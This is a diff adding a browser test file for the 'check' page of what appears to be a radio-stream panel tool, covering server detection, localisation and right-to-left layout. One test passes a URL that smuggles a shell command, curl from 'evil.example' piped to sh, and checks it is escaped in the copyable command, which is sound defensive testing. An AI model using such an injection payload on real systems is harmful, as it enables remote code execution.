@@ -1,0 +1,139 @@
+/** The built page of the check, on the real panel: its most important answers. More are in `test/diagnostics/page/page.nightly.test.ts`. */
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { openBrowser } from '../kit/browser.js';
+import { startBroken, type BrokenServer } from '../kit/broken-servers.js';
+import { linesOf, objectionsOf, untilChecked } from '../kit/check-page.js';
+import { startIcecast } from '../kit/servers/icecast.js';
+import { startShoutcast } from '../kit/servers/shoutcast.js';
+import { openLivePanel, type OpenedPanel } from '../kit/open-panel.js';
+import type { Browser, Page } from 'playwright-core';
+
+describe('the page of the check', () => {
+  let browser: Browser;
+  let panel: OpenedPanel;
+  let website: BrokenServer;
+  let page: Page;
+  before(async () => {
+    browser = await openBrowser();
+    panel = await openLivePanel({ dist: 'dist/onair-panel' });
+    website = await startBroken('website');
+    page = await browser.newPage({ locale: 'en-GB' });
+  });
+  after(async () => {
+    await browser.close();
+    await Promise.all([panel, website].map((each) => each.close()));
+  });
+
+  const CHECK = () => `${panel.url}/check/`;
+
+  it('takes an address as it is typed, and says what is wrong there', async () => {
+    await page.goto(CHECK());
+    await page.getByLabel('Address of the panel').fill(website.host);
+    await page.keyboard.press('Enter');
+    const address = `http://${website.host}`;
+    assert.equal(await untilChecked(page), `Tags can’t show server 1 at ${address}.`);
+    assert.match((await linesOf(page)).Station!, /gave a web page/);
+    assert.match(page.url(), /panel=127\.0\.0\.1/);
+    await page.goto(`${CHECK()}?panel=ftp%3A%2F%2Fx&lang=de`);
+    assert.match((await page.getByRole('alert').textContent())!, /„ftp:\/\/x“ ist keine Adresse/);
+  });
+
+  it('says which other kind of server stands at an address, also where it answers by JSONP alone', async () => {
+    for (const [starting, kind, cors] of [
+      [startIcecast(), 'Icecast', 'OK This page may read its answers.'],
+      [startShoutcast(), 'Shoutcast', 'Note Pages of other sites may not fetch its answers'],
+    ] as const) {
+      const server = await starting;
+      try {
+        server.play({ artist: 'Björk', title: 'Jóga' });
+        await page.goto(`${CHECK()}?panel=${server.url}/stream.html&site=http`);
+        // Of an http site, the sound alone is wrong: there is none.
+        assert.equal(await untilChecked(page), `To be mended at ${server.url}/stream.html: streams.`);
+        const lines = await linesOf(page);
+        assert.equal(
+          lines.Server,
+          `OK ${kind} is at ${server.url}. It is no panel, and tags show it all the same.`,
+        );
+        assert.equal(lines['On air'], 'OK Björk – Jóga');
+        assert.ok(lines['To write']!.includes(`source="${kind.toLowerCase()}"`));
+        assert.ok(lines.CORS!.startsWith(cors), lines.CORS);
+        assert.deepEqual(await objectionsOf(page), []);
+      } finally {
+        await server.close();
+      }
+    }
+  });
+
+  it('copies the report, which is folded away, and a command that a link can not change', async () => {
+    const sent = "https://x/;curl$IFS'evil.example'|sh";
+    await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
+    await untilChecked(page);
+    assert.equal(
+      await page.locator('.terminal code').textContent(),
+      'npx onair-panel check https://x/%3Bcurl%24IFS%27evil.example%27%7Csh --server 1',
+    );
+    const copied = page.locator('.copy [role=status]', { hasText: 'Copied' }).waitFor();
+    await page.getByRole('button', { name: 'Copy report' }).click();
+    await copied;
+  });
+
+  it('speaks the reader’s language, by one file from beside it, and another one when that is chosen', async () => {
+    const french = await browser.newPage({ locale: 'fr-CA' });
+    const asked: string[] = [];
+    french.on('request', (request) => asked.push(new URL(request.url()).pathname));
+    await french.goto(`${CHECK()}?panel=http://${website.host}`);
+    assert.equal(
+      await untilChecked(french),
+      `Les balises ne peuvent pas montrer le serveur 1 de http://${website.host}.`,
+    );
+    assert.match((await linesOf(french)).Station!, /^Erreur .*a donné une page web/);
+    assert.equal(await french.locator('html').getAttribute('lang'), 'fr');
+    assert.deepEqual(await objectionsOf(french), []);
+    assert.deepEqual(
+      asked.filter((path) => path.includes('owner')),
+      ['/parts/owner-fr.js'],
+    );
+    await french.getByLabel('Langue').selectOption('pl');
+    await french.waitForURL(/lang=pl/);
+    assert.match(await untilChecked(french), /^Znaczniki nie mogą pokazać/);
+    await french.goto(`${panel.url}/check.html?lang=tr&panel=http://${website.host}`);
+    await untilChecked(french);
+    assert.ok('İstasyon' in (await linesOf(french)));
+    await french.close();
+  });
+
+  it('runs from right to left in Arabic, but for addresses and what is copied, on the narrowest screen too', async () => {
+    const arabic = await browser.newPage({ viewport: { width: 280, height: 800 } });
+    await arabic.goto(`${CHECK()}?panel=${panel.url}&lang=ar`);
+    assert.match(await untilChecked(arabic), /المحتوى المختلط\.$/);
+    const directions = await arabic.evaluate(() =>
+      ['body', '.lines li', '#panel', 'pre', 'code'].map(
+        (each) => getComputedStyle(document.querySelector(each)!).direction,
+      ),
+    );
+    assert.deepEqual(directions, ['rtl', 'rtl', 'ltr', 'ltr', 'ltr']);
+    assert.equal(await arabic.evaluate('document.documentElement.scrollWidth'), 280);
+    assert.deepEqual(await objectionsOf(arabic), []);
+    await arabic.close();
+  });
+
+  it('is English where a copy has no other words beside it, and says that it is', async () => {
+    const copy = await browser.newPage({ locale: 'ru-RU' });
+    await copy.route('**/parts/*', (route) => route.fulfill({ status: 404 }));
+    await copy.goto(CHECK());
+    await copy.getByLabel('Address of the panel').waitFor();
+    assert.equal(await copy.locator('html').getAttribute('lang'), 'en');
+    assert.equal(await copy.getByLabel('Language').inputValue(), 'en');
+    await copy.close();
+  });
+
+  it('leads from a server that is not there to those that are', async () => {
+    await page.goto(`${CHECK()}?panel=${panel.url}&server=99`);
+    await untilChecked(page);
+    await page.getByRole('link', { name: /^2 / }).click();
+    await page.waitForURL(/server=2/);
+    assert.match(await untilChecked(page), /^To be mended/);
+    assert.equal(await page.locator('nav [aria-current]').textContent(), '2 Nachtfähre');
+  });
+});
